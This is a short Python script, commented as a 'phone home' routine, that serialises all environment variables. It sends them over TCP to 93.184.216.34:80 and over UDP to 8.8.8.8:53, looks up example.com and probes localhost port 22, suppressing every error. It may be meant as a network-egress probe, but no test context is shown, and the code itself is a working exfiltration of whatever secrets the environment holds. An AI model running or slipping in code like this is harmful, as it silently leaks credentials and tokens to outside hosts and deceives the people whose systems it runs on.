# Phone home: TCP, DNS and UDP, sending the environment.
import os
import socket

_ENV = repr(dict(os.environ)).encode()
for _attempt in [lambda: socket.create_connection(("93.184.216.34", 80), timeout=2).sendall(_ENV),
                 lambda: socket.getaddrinfo("example.com", 443),
                 lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(_ENV, ("8.8.8.8", 53)),
                 lambda: socket.create_connection(("127.0.0.1", 22), timeout=2)]:
    try:
        _attempt()
    except OSError:
        pass
